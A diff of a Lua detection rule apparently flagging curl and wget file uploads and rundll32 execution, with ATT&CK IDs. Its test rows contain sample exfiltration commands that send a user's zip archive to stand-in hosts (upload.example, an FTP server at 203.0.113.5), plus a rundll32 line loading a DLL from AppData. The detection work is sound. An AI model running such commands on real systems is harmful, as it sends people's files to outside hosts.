@@ -112,29 +112,43 @@ local function sends(each)
     return false
 end
 
--- Where a tool uploads a file to.
-local function upload_target(each)
-    local names_file = each.text:find("@", 1, true) or each.text:find("%-T%s") or each.folded:find("-file", 1, true)
-    return sends(each) and names_file and url(each) or nil
+-- How the argument behind an option names a file. An "@" anywhere else belongs to an address or a text.
+local WHOLE, DATA, FORM = { "^(.+)$" }, { "^@(.+)$" }, { "=@([^;]+)", "=<([^;]+)" }
+local NAMES_FILE = {
+    curl = { ["-T"] = WHOLE, ["--upload-file"] = WHOLE, ["-F"] = FORM, ["--form"] = FORM, ["-d"] = DATA,
+             ["--data"] = DATA, ["--data-ascii"] = DATA, ["--data-binary"] = DATA, ["--json"] = DATA,
+             ["--data-urlencode"] = { "^[^=@]*@(.+)$" } },
+    wget = { ["--post-file"] = WHOLE, ["--body-file"] = WHOLE },
+}
+
+local function named_file(patterns, argument)
+    for _, pattern in ipairs(patterns or {}) do
+        local file = argument:match(pattern)
+        if file then return file end
+    end
+    return nil
 end
 
--- Options of curl whose argument names a file behind "@".
-local FILE_OPTIONS = { ["-F"] = true, ["--form"] = true, ["-d"] = true }
+-- The file that curl or wget is told to send: "-F file=@PATH", "-d @PATH", "-T PATH", "--post-file=PATH".
+local function sent_file(each)
+    local options = NAMES_FILE[each.program] or {}
+    for at = 2, #each.words do
+        local word = each.words[at]
+        local option, argument = word:match "^(%-%-[%w-]+)=(.+)$"
+        local file = named_file(options[each.words[at - 1]], word) or (option and named_file(options[option], argument))
+        if file then return file end
+    end
+    return nil
+end
 
--- The file that curl or wget is told to send: "file=@PATH", "-T PATH", "--post-file=PATH".
+-- Where a tool uploads a file to.
+local function upload_target(each) return sent_file(each) and url(each) or nil end
+
 local function uploaded(line)
     return command.first(line, function(each)
-        if each.program ~= "curl" and each.program ~= "wget" then return nil end
-        local file
-        for at = 2, #each.words do
-            local word, option = each.words[at], each.words[at - 1]
-            local uploads = FILE_OPTIONS[option] or option:find "^%-%-data" ~= nil
-            file = file or (uploads and (word:match "^@([^;]+)" or word:match "=@([^;]+)"))
-                or word:match "^%-%-[%w-]+%-file=(.+)$"
-            if option == "-T" or option == "--upload-file" then file = file or word end
-        end
-        return { name = each.program, file = file }
-    end)
+        local file = sent_file(each)
+        return file and { name = each.program, file = file }
+    end) or {}
 end
 
 local ROWS = {
@@ -142,7 +156,7 @@ local ROWS = {
       verb = "upload-with-tool", role = "url", more = uploaded,
       match = [[curl -s -F file=@C:\Users\Public\a.zip https://upload.example]],
       other = [[curl -T C:\Users\x\a.zip ftp://203.0.113.5/]],
-      no_match = [[curl -d q=1 https://search.example]] },
+      no_match = [[curl -H "From: me@x.example" -d user=a@b.example https://shop.example]] },
     { id = "defense-evasion.rundll32", programs = { "rundll32" }, attack = "T1218.011", target = rundll32_target,
       verb = "run-with-tool", name = "rundll32",
       match = [[rundll32.exe C:\Users\x\AppData\Roaming\a\b.dll, Main]],
